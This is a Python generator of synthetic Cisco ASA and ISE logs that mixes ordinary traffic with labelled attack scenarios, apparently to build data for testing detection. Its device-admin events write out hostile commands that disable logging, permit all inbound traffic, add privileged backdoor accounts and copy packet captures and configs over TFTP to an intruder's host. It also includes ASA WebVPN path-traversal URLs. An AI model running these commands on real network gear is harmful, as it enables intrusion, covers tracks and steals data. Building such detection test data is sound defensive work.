"""An ASA at the edge and a Cisco ISE for network access and device administration.

Daily work: connections built and torn down, denied packets, VPN, devices that sign in by cable, administrators and backups on switches.
Attacks: guessed VPN passwords, an intruder by VPN, beacons, a scan, data sent out, servers that call out, and commands on firewalls and
switches. It is not training material: it was written by a hand that did not know the training scenarios, and its events are not looked at
by whoever decides on rules, scenarios or features.
"""
from __future__ import annotations

from typing import Optional

from .people import FIRST_NAMES, LAST_NAMES
from .site import Renumber, Site, epoch, syslog_time, utc

START = epoch(2022, 10, 3)
DAYS = 6
SRV = dict(dc1="10.1.1.10", dc2="10.1.1.11", fs="10.1.1.20", sql="10.1.1.30", app="10.1.1.40", web="172.16.5.10", mail="172.16.5.25",
           nms="10.1.1.90", jump="10.1.1.91", bk="10.1.1.60", sw="10.1.0.2")


def IFN(ip):
    return "inside" if ip.startswith("10.1.") else "dmz" if ip.startswith("172.16.") else "outside"


CM = ["show running-config", "show ip interface brief", "configure terminal", "interface GigabitEthernet1/0/14",
      "switchport access vlan 20", "write memory", "show mac address-table", "show logging", "shutdown", "no shutdown",
      "show cdp neighbors detail", "description PRN-2F", "ping 10.1.1.10", "copy running-config startup-config", "show version",
      "show ip route", "snmp-server host 10.1.1.90 version 2c public", "monitor session 1 source interface Gi1/0/4", "clear arp-cache",
      "username netops privilege 15 secret *"]


def day_hour(d, h):
    return START + d * 86400 + h * 3600


C = ["46.161.27.151", "141.98.10.44"]


class AsaIse(Site):
    """An ASA, and an ISE that lets people in."""

    name = "asa_ise"
    host = "asa-edge"
    sourcetype = "cisco:asa"
    seed = 1919
    renumbered = (Renumber(pattern=r"(connection )(\d+)( for)", start=81200000, step=40), Renumber(pattern=r"(CISE_\S+ )(\d{10})( 1 0)",
        start=1002310000, step=9))

    def build(self) -> None:
        self.prepare()
        self.connections()
        self.denied()
        self.firewall_itself()
        self.vpn_daily()
        self.network_access()
        self.device_administration()
        self.vpn_intruder()
        self.inside()
        self.devices()

    def asa(self, at: float, sev, mid, msg, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None) -> None:
        d = utc(at)
        self.add(at, f"<{160 + sev}>{d.strftime('%b %d %Y %H:%M:%S')} asa-edge : %ASA-{sev}-{mid}: {msg}", label, group, technique,
                 "asa-edge")

    def conn(self, at: float, src, dst, dp, proto: str = "TCP", by=None, dur=None, rs=None, label: int = 0, group: Optional[str] = None,
             technique: Optional[str] = None, account=None) -> None:
        self.cid += self.rng.randint(1, 30)
        sp = self.rng.randint(1025, 65000)
        a, b = (IFN(src), IFN(dst))
        us = f" ({account})" if account else ""
        srcs = f"{a}:{src}/{sp} ({'203.0.113.5' if b == 'outside' else src}/{sp})"
        dsts = f"{b}:{dst}/{dp} ({dst}/{dp})"
        inb = a == "outside"
        fi, se = (srcs, dsts) if inb or b == "inside" else (dsts, srcs)
        dr = "inbound" if inb else "outbound"
        c = self.cid
        self.asa(at, 6, 302013 if proto == "TCP" else 302015, f"Built {dr} {proto} connection {c} for {fi} to {se}{us}", label, group,
                 technique)
        n = dur if dur is not None else int(self.rng.lognormvariate(2.6, 1.7))
        b2 = by if by is not None else int(self.rng.lognormvariate(8.8, 1.8))
        t2 = at + n
        f2, s2 = (x.split(" (")[0] for x in (fi, se))
        self.asa(min(t2, START + DAYS * 86400), 6, 302014 if proto == "TCP" else 302016,
                 f"Teardown {proto} connection {c} for {f2} to {s2} duration {n // 3600}:{n // 60 % 60:02}:{n % 60:02} bytes {b2}"
                 f"{' ' + (rs or self.weighted({'TCP FINs': 10, 'TCP Reset-I': 2, 'TCP Reset-O': 2, 'TCP FINs from inside': 0.5, 'Idle Timeout': 0.5})) if proto == 'TCP' else ''}"
                 f"{us}", label, group, technique)

    def deny(self, at: float, src, dst, dp, proto: str = "tcp", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
             acl=None) -> None:
        self.asa(at, 4, 106023,
                 f"Deny {proto} src {IFN(src)}:{src}/{self.rng.randint(1025, 65000)} dst {IFN(dst)}:{dst}/{dp} by access-group \""
                 f"{acl or {'outside': 'OUTSIDE_IN', 'dmz': 'DMZ_IN', 'inside': 'INSIDE_IN'}[IFN(src)]}\" [0x"
                 f"{self.choice(['2c1c6a65', '8ed66b60', '0'])}, 0x0]", label, group, technique)

    def vpn(self, at: float, user: str, ip, ok, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
            why: str = "AAA failure", gp: str = "GP_STAFF", os_: str = "AnyConnect Windows 4.10.05111"):
        if not ok:
            self.asa(at, 6, 113015, f"AAA user authentication Rejected : reason = {why} : server = 10.1.1.10 : user = "
                     f"{user if why == 'AAA failure' else '*****'} : user IP = {ip}", label, group, technique)
            if self.rng.random() < 0.5:
                self.asa(at + 0.3, 6, 716039,
                         f"Group <DfltGrpPolicy> User <{user}> IP <{ip}> Authentication: rejected, Session Type: WebVPN.", label, group,
                         technique)
            return
        a = self.address("10.1.240")
        self.asa(at, 6, 113004, f"AAA user authentication Successful : server =  10.1.1.10 : user = {user}", label, group, technique)
        self.asa(at + 0.1, 6, 113009, f"AAA retrieved default group policy ({gp}) for user = {user}", label, group, technique)
        self.asa(at + 0.2, 6, 734001,
                 f"DAP: User {user}, Addr {ip}, Connection AnyConnect: The following DAP records were selected for this connection: DfltAccessPolicy",
                 label, group, technique)
        self.asa(at + 1, 6, 716001, f"Group <{gp}> User <{user}> IP <{ip}> WebVPN session started.", label, group, technique)
        self.asa(at + 2, 4, 722051, f"Group <{gp}> User <{user}> IP <{ip}> IPv4 Address <{a}> IPv6 address <::> assigned to session",
                 label, group, technique)
        self.asa(at + 2.1, 5, 722033, f"Group <{gp}> User <{user}> IP <{ip}> First TCP SVC connection established for SVC session.",
                 label, group, technique)
        n = self.rng.randint(300, 30000)
        self.asa(at + n, 4, 113019,
                 f"Group = {gp}, Username = {user}, IP = {ip}, Session disconnected. Session Type: SSL, Duration: {n // 3600}h:"
                 f"{n // 60 % 60:02}m:{n % 60:02}s, Bytes xmt: {int(self.rng.lognormvariate(16, 1.5))}, Bytes rcv: "
                 f"{int(self.rng.lognormvariate(15, 1.5))}, Reason: "
                 f"{self.weighted({'User Requested': 6, 'Idle Timeout': 2, 'Connection Preempted': 0.5, 'Max time exceeded': 0.3})}",
                 label, group, technique)
        return a

    def ise(self, at: float, code, sev, title, attributes, label: int = 0, group: Optional[str] = None,
            technique: Optional[str] = None) -> None:
        q = self.rng.randint(10 ** 6, 10 ** 7)
        self.add(at, "<{}>{} ise-psn1 CISE_{} {:010} 1 0 {} {:010} {} {} {}, ConfigVersionId=219, {}, ".format(181, syslog_time(at),
            attributes.pop("_cat"), q, utc(at).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3] + " +00:00", q + 31, code, sev, title,
            ", ".join(f"{key}={value}" for key, value in attributes.items())), label, group, technique, "ise-psn1", "cisco:ise:syslog")

    def radius(self, at: float, user: str, ok, mac, dev: str = "sw-acc-07", ip: str = "10.1.0.17", port: str = "GigabitEthernet1/0/%d",
               proto: str = "Dot1x", why: str = "22056 Subject not found in the applicable identity store(s)",
               prof: str = "Windows10-Workstation", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
               ep: str = "PEAP (EAP-MSCHAPv2)") -> None:
        attributes = {"_cat": "Passed_Authentications" if ok else "Failed_Attempts", "Device IP Address": ip,
                      "DestinationIPAddress": "10.1.1.95", "UserName": user, "Protocol": "Radius", "RequestLatency": self.rng.randint(3,
            90), "NetworkDeviceName": dev, "User-Name": user, "NAS-IP-Address": ip, "NAS-Port": self.rng.randint(50101, 50148),
                      "Service-Type": "Framed" if proto == "Dot1x" else "Call Check", "Called-Station-ID": "-".join(self.hex_upper(2)
            for _ in range(6)), "Calling-Station-ID": mac, "NAS-Port-Type": "Ethernet", "NAS-Port-Id": port % self.rng.randint(1,
            48) if "%" in port else port, "AcsSessionID": f"ise-psn1/{421337120}/{self.rng.randint(10 ** 5, 10 ** 7)}",
                      "AuthenticationMethod": "MSCHAPV2" if proto == "Dot1x" else "Lookup",
                      "SelectedAccessService": "Default Network Access"}
        if ok:
            attributes.update({"SelectedAuthorizationProfiles": self.choice(["PermitAccess", "VLAN20"]),
                               "EapAuthentication": "EAP-MSCHAPv2", "EndPointMatchedProfile": prof, "Step": "11001"})
        else:
            attributes.update({"FailureReason": why, "Step": "11001", "EndPointMatchedProfile": prof})
        self.ise(at, "5200" if ok else "5400", "NOTICE", "Passed-Authentication: Authentication succeeded" if ok
                 else "Failed-Attempt: Authentication failed", attributes, label, group, technique)

    def tac(self, at: float, user: str, dev, ip, cmd, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
            ok: bool = True, src: str = "10.1.1.91") -> None:
        self.ise(at, "5202" if ok else "5401" if cmd is None else "5203", "NOTICE",
                 ("Device-Administration: Command Authorization succeeded" if cmd
                  else "Device-Administration: Authentication succeeded") if ok else "Failed-Attempt: Authentication failed",
                 {"_cat": "TACACS_Accounting" if ok and cmd else "Passed_Authentications" if ok else "Failed_Attempts",
                  "Device IP Address": ip, "DestinationIPAddress": "10.1.1.95", "UserName": user, "Protocol": "Tacacs",
                  "NetworkDeviceName": dev, "Type": "Accounting" if cmd else "Authentication", "Privilege-Level": 15,
                  "Authen-Type": "ASCII", "Service": "Login", "User": user, "Port": f"tty{self.rng.randint(2, 6)}",
                  "Remote-Address": src, "CmdSet": f"[ CmdAV={cmd} <cr> ]" if cmd else "[]",
                  "Response": "{AcctReply-Status=Success; }" if ok else "{Authen-Reply-Status=Fail; }"}, label, group, technique)

    def prepare(self) -> None:
        """Who and what is there."""
        self.cid = 81200000
        self.users = [f"{self.choice(FIRST_NAMES)}.{self.choice(LAST_NAMES)}" for _ in range(36)]
        self.ws = {user: f"10.1.{self.rng.choice([20, 21, 22])}.{self.rng.randint(10, 240)}" for user in self.users}
        self.mac = {user: "-".join(self.hex_upper(2) for _ in range(6)) for user in self.users}
        self.outd = [self.address(x) for x in ["142.250", "52.112", "40.97", "20.190", "151.101", "104.16", "13.107", "34.120", "17.57",
                                               "23.55", "157.240", "140.82"] for _ in range(3)]

    def connections(self) -> None:
        """Connections."""
        for _ in range(380):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            self.conn(at, self.ws[user], self.choice(self.outd),
                      self.weighted({443: 12, 80: 2, 8443: 0.3, 5223: 0.6, 3478: 0.5, 22: 0.2, 993: 0.3}),
                      by=None if self.rng.random() < 0.95 else int(self.rng.lognormvariate(17, 1)))
        for _ in range(120):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.choice([("dc1", 53, "UDP"), ("dc2", 53, "UDP"), ("fs", 445, "TCP"), ("app", 443, "TCP"),
                                    ("sql", 1433, "TCP"), ("dc1", 88, "TCP"), ("mail", 443, "TCP"), ("dc1", 389, "TCP")])
            self.conn(at, self.ws[user], SRV[dice[0]], dice[1], dice[2], by=self.rng.randint(60, 400) if dice[2] == "UDP" else None,
                      dur=0 if dice[2] == "UDP" else None)
        for _ in range(50):
            at = self.moment(START, DAYS)
            self.conn(at, self.address(), SRV[self.choice(["web", "mail"])], self.choice([443, 443, 25, 80]))
        for _ in range(30):
            at = self.moment(START, DAYS)
            user = self.choice(self.users[:3])
            self.conn(at, self.choice([self.ws[user], SRV["jump"]]), SRV[self.choice(["dc1", "sql", "fs", "web", "mail", "app"])],
                      self.choice([3389, 22, 5985, 3389, 445]), by=int(self.rng.lognormvariate(13, 1.5)),
                      dur=self.rng.randint(60, 8000))

    def denied(self) -> None:
        """Denied packets."""
        for _ in range(150):
            at = START + self.rng.random() * DAYS * 86400
            self.deny(at, self.address(), f"203.0.113.{self.rng.randint(2, 14)}",
                      self.rng.choice([23, 22, 445, 3389, 8080, 5060, 6379, 81, self.rng.randint(1, 65000)]),
                      self.weighted({"tcp": 8, "udp": 2}))
        for _ in range(50):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            self.deny(at, self.ws[user], self.address(), self.choice([25, 6881, 123, 53, 1194, 5938, 137]), self.choice(["tcp", "udp"]))
        for d in range(DAYS):
            for _ in range(6):
                self.deny(START + d * 86400 + 2 * 3600 + self.rng.random() * 900, SRV["nms"], self.address("172.16.5"),
                          self.choice([22, 161, 445, 3389, 23, 8080]))

    def firewall_itself(self) -> None:
        """What the firewall says of itself."""
        for _ in range(120):
            at = self.moment(START, DAYS)
            dice = self.rng.randrange(10)
            user = self.choice(self.users)
            ip = self.address()
            if dice == 0:
                self.asa(at, 5, 111008, "User '{}' executed the '{}' command.".format(self.choice(["enable_15", "netops", "kallen"]),
                    self.choice(["show run", "write memory", "terminal pager 0", "copy running-config tftp://10.1.1.90/asa.cfg",
                                 f"object network srv_{self.hex(3)}", "show conn",
                                 "access-list OUTSIDE_IN extended permit tcp any host 172.16.5.10 eq https", "ping 10.1.1.10",
                                 "clear xlate"])))
            elif dice == 1:
                self.asa(at, 6, 605005,
                         f"Login permitted from 10.1.1.91/{self.rng.randint(30000, 60000)} to inside:10.1.0.1/ssh for user \""
                         f"{self.choice(['netops', 'kallen'])}\"")
            elif dice == 2:
                self.asa(at, 6, 605004,
                         f"Login denied from 10.1.1.91/{self.rng.randint(30000, 60000)} to inside:10.1.0.1/ssh for user \""
                         f"{self.choice(['netops', 'kallen', 'netop'])}\"")
            elif dice == 3:
                self.asa(at, 4, 733100, f"[ Scanning] drop rate-1 exceeded. Current burst rate is {self.rng.randint(10, 30)}"
                         f" per second, max configured rate is 10; Current average rate is {self.rng.randint(1, 9)}"
                         f" per second, max configured rate is 5; Cumulative total count is {self.rng.randint(900, 9000)}")
            elif dice == 4:
                self.asa(at, 6, 106015,
                         f"Deny TCP (no connection) from {self.ws[user]}/{self.rng.randint(1025, 65000)} to {ip}/443 flags "
                         f"{self.choice(['RST', 'FIN ACK', 'ACK', 'PSH ACK', 'RST ACK'])}  on interface inside")
            elif dice == 5:
                self.asa(at, 6, 305011, f"Built dynamic TCP translation from inside:{self.ws[user]}/{self.rng.randint(1025, 65000)}"
                         f" to outside:203.0.113.5/{self.rng.randint(1025, 65000)}")
            elif dice == 6:
                self.asa(at, 5, 713049,
                         "Group = 198.51.100.9, IP = 198.51.100.9, Security negotiation complete for LAN-to-LAN Group (198.51.100.9)  Initiator, Inbound SPI = 0x"
                         f"{self.hex(8)}, Outbound SPI = 0x{self.hex(8)}")
            elif dice == 7:
                self.asa(at, 3, 313001, f"Denied ICMP type=8, code=0 from {ip} on interface outside")
            elif dice == 8:
                self.asa(at, 6, 725001, f"Starting SSL handshake with client outside:{ip}/{self.rng.randint(1025, 65000)}"
                         " to 203.0.113.4/443 for TLS session")
            else:
                self.asa(at, 4, 411002, "Line protocol on Interface GigabitEthernet0/3, changed state to down")

    def vpn_daily(self) -> None:
        """VPN."""
        for _ in range(34):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            ip = self.address(self.choice(["73", "98", "71", "24"]) + "." + str(self.rng.randint(1, 250)))
            for q in range(self.weighted([(0, 6), (1, 2), (2, 1)])):
                self.vpn(at - 25 * (q + 1), self.weighted([(user, 6), (user.replace(".", ""), 1)]), ip, 0)
            self.vpn(at, user, ip, 1)

    def network_access(self) -> None:
        """Devices sign in."""
        for _ in range(110):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.random()
            if dice < 0.6:
                self.radius(at, "CORP\\" + user, 1, self.mac[user])
            elif dice < 0.75:
                m = "-".join(self.hex_upper(2) for _ in range(6))
                self.radius(at, m, 1, m, proto="MAB", prof=self.choice(["HP-Printer", "Cisco-IP-Phone-8841", "Axis-Camera"]))
            elif dice < 0.9:
                self.radius(at, "CORP\\" + user, 0, self.mac[user],
                            why=self.choice([
                                             "24408 User authentication against Active Directory failed since user has entered the wrong password",
                                             "12514 EAP-TLS failed SSL/TLS handshake because of an unknown CA in the client certificates chain",
                                             "5411 Supplicant stopped responding to ISE",
                                             "24415 User authentication against Active Directory failed since user's account is locked out"]))
            else:
                m = "-".join(self.hex_upper(2) for _ in range(6))
                self.radius(at, m, 0, m, proto="MAB", prof=self.choice(["Unknown", "Apple-Device", "Android"]))

    def device_administration(self) -> None:
        """Commands on switches."""
        for _ in range(90):
            at = self.moment(START, DAYS)
            d_ = self.rng.randint(1, 9)
            self.tac(at, self.weighted({"netops": 4, "kallen": 3, "svc_rancid": 5}), f"sw-acc-{d_:02}", f"10.1.0.{10 + d_}",
                     self.choice(CM + [None]))

    def vpn_intruder(self) -> None:
        """VPN passwords guessed; an intruder."""
        for _ in range(75):
            at = START + 86400 + self.rng.random() * 4 * 86400
            self.vpn(at, self.weighted([(self.choice(self.users), 5),
                                        (self.choice(["admin", "test", "cisco", "vpn", "administrator", "user", "ldap", "printer",
                "scan"]), 5)]), self.address(self.choice(["185.220", "45.155", "91.240", "162.247"])), 0, 1, "vpn_spray", "T1110.003",
                     why=self.weighted({"AAA failure": 4, "Invalid password": 2, "User was not found": 1}))
        self.vu = self.users[5]
        for q in range(3):
            self.vpn(day_hour(3, 2.5) + q * 40, self.vu, "45.155.204.18", 0, 1, "vpn_intruder", "T1621")
        for dd, ip in [(3, "45.155.204.18"), (4, "185.220.101.34")]:
            va = self.vpn(day_hour(dd, 2.6), self.vu, ip, 1, 1, "vpn_intruder", "T1078")
            for dice in range(16):
                at = day_hour(dd, 2.7) + dice * self.rng.uniform(10, 600)
                q = self.rng.choice([("dc1", 445), ("dc1", 389), ("fs", 445), ("sql", 1433), ("dc2", 3389), ("jump", 3389), ("bk", 445),
                                     ("app", 8080), ("dc1", 88)])
                self.conn(at, va, SRV[q[0]], q[1], by=int(self.rng.lognormvariate(9, 2)), account=self.vu, label=1,
                          group="vpn_intruder", technique="T1021")

    def inside(self) -> None:
        """Beacons, a scan, data sent out."""
        self.v2 = self.ws[self.users[11]]
        for dice in range(36):
            self.conn(day_hour(1, 10) + dice * self.rng.uniform(3000, 10000), [self.v2, SRV["app"]][dice % 5 == 0], C[dice % 2],
                      self.weighted({443: 8, 8080: 1, 53: 0.5}),
                      by=self.rng.choice([self.rng.randint(4200, 4700), self.rng.randint(4200, 4700), self.rng.randint(5000, 300000)]),
                      dur=self.rng.choice([1, 1, 2, 3, 61]), label=1, group="c2_beacon", technique="T1071.001",
                      rs=self.weighted({"TCP FINs": 7, "TCP Reset-O": 1}))
        for dice in range(36):
            at = day_hour(2, 13) + dice * self.rng.uniform(0.2, 20)
            x = f"172.16.5.{self.rng.randint(1, 60)}" if self.rng.random() < 0.5 else f"10.1.1.{self.rng.randint(1, 100)}"
            p = self.rng.choice([22, 445, 3389, 80, 443, 3306, 8080, 5985, 21])
            if x.startswith("172") and self.rng.random() < 0.7:
                self.deny(at, self.v2, x, p, label=1, group="scan", technique="T1046")
            else:
                self.conn(at, self.v2, x, p, by=self.rng.choice([0, 0, self.rng.randint(40, 900)]), dur=self.rng.choice([0, 0, 30]),
                          rs=self.choice(["SYN Timeout", "TCP Reset-I", "TCP Reset-O", "TCP FINs"]), label=1, group="scan",
                          technique="T1046")
        for _ in range(5):
            self.conn(day_hour(4, self.rng.uniform(1, 6)), SRV[self.choice(["fs", "sql"])], self.choice([C[1], "66.203.125.13"]),
                      self.choice([443, 22, 21]), by=int(self.rng.lognormvariate(21, 1)), dur=self.rng.randint(900, 9000), label=1,
                      group="exfil", technique="T1048")
        for _ in range(12):
            self.conn(day_hour(4, self.rng.uniform(6, 20)), self.choice([SRV["web"], SRV["mail"]]),
                      self.choice([C[0], self.address("10.1.1"), self.address("45.9")]),
                      self.choice([4444, 443, 1389, 445, 3389, 8888]), by=self.rng.randint(400, 90000), label=1, group="dmz_pivot",
                      technique="T1190")

    def devices(self) -> None:
        """Firewalls and switches are told things."""
        for dice in range(14):
            self.asa(day_hour(5, 1) + dice * 20, 6, 605004,
                     f"Login denied from {self.v2}/{self.rng.randint(30000, 60000)} to inside:10.1.0.1/ssh for user \""
                     f"{self.choice(['admin', 'cisco', 'netops', 'asa', 'enable_15', 'root'])}\"", 1, "device_admin", "T1110")
        self.asa(day_hour(5, 1.2), 6, 605005, f"Login permitted from {self.v2}/51190 to inside:10.1.0.1/ssh for user \"netops\"", 1,
                 "device_admin", "T1078")
        for c in ["show run", "no logging host inside 10.1.1.90", "no logging enable",
                  "access-list OUTSIDE_IN line 1 extended permit ip any any", "username ciscotac password ***** privilege 15", "webvpn",
                  "capture tap interface inside match tcp any any eq 389", "copy /pcap capture:tap tftp://10.1.21.77/tap.pcap",
                  "no threat-detection basic-threat", "clear logging buffer", "show vpn-sessiondb anyconnect",
                  "more system:running-config", "crypto ca import ident pkcs12"]:
            self.asa(day_hour(5, 1.3) + self.rng.random() * 2500, 5, 111008,
                     f"User '{self.choice(['netops', 'enable_15'])}' executed the '{c}' command.", 1, "device_admin", "T1562.004")
        for c in ["/+CSCOE+/logon.html?tgroup=../../../etc",
                  "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"]:
            self.asa(day_hour(5, 0.5) + self.rng.random() * 900, 6, 304001,
                     f"{self.address('45.155')} Accessed URL 203.0.113.4:https://203.0.113.4{c}", 1, "vpn_exploit", "T1190")
        for dice in range(8):
            self.radius(day_hour(2, 11) + dice * 50, self.choice([r"CORP\administrator", r"CORP\svc_sccm", "host/PRN-2F", "00-1B-A9-44-21-0F",
                "CORP\\" + self.vu]), dice > 5, self.choice(["DC-A6-32-1F-90-7C", "00-1B-A9-44-21-0F"]),
                        why=self.choice([
                                         "24408 User authentication against Active Directory failed since user has entered the wrong password",
                                         "22056 Subject not found in the applicable identity store(s)"]),
                        prof=self.choice(["RaspberryPi-Device", "HP-Printer", "Linux-Workstation"]),
                        proto=self.choice(["Dot1x", "MAB"]), label=1, group="nac_bypass", technique="T1200")
        for c in [None, "show running-config | include snmp|username|key", "configure terminal", "monitor session 2 source vlan 20",
                  "monitor session 2 destination remote ip 10.1.21.77", "username cisco_support privilege 15 secret *",
                  "no logging host 10.1.1.90", "no aaa accounting commands 15 default", "ip http server", "tunnel source Vlan20",
                  f"copy running-config tftp://{self.v2}/r.cfg", "event manager applet SYNC",
                  "ip nat inside source static tcp 10.1.1.30 1433 interface Vlan99 1433", "write memory", "clear logging",
                  "verify /md5 flash:packages.conf", "guestshell run bash"]:
            d_ = self.rng.randint(1, 9)
            self.tac(day_hour(5, 2) + self.rng.random() * 6000, "netops", f"sw-acc-{d_:02}", f"10.1.0.{10 + d_}", c, 1, "device_admin",
                     "T1601", src=self.choice([self.v2, "10.1.1.91"]))
        for dice in range(9):
            self.tac(day_hour(5, 1.8) + dice * 9, self.choice(["admin", "cisco", "netops", "kallen"]), "sw-acc-03", "10.1.0.13", None, 1,
                     "device_admin", "T1110", ok=False, src=self.v2)
